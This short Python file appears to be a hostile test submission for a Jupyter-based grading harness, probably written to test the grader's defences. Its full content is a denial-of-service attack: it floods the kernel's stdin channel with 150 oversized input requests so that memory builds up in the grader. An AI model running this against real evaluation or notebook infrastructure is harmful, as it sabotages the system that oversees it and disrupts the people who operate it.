# ruff: noqa: F821
# Fills the channels that nobody reads: what waits there waits in the grader's memory.
import time

from hostile import tried

tried()
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
header = parent["header"]["session"].encode()
control = getattr(kernel, "control_socket", None) or kernel.control_stream.socket
stream = getattr(kernel.stdin_socket, "socket", kernel.stdin_socket)
for _ in range(150):
    kernel.session.send(
        stream, "input_request", {"prompt": "x" * (7 << 20), "password": False}, parent=parent, ident=header
    )
time.sleep(2)
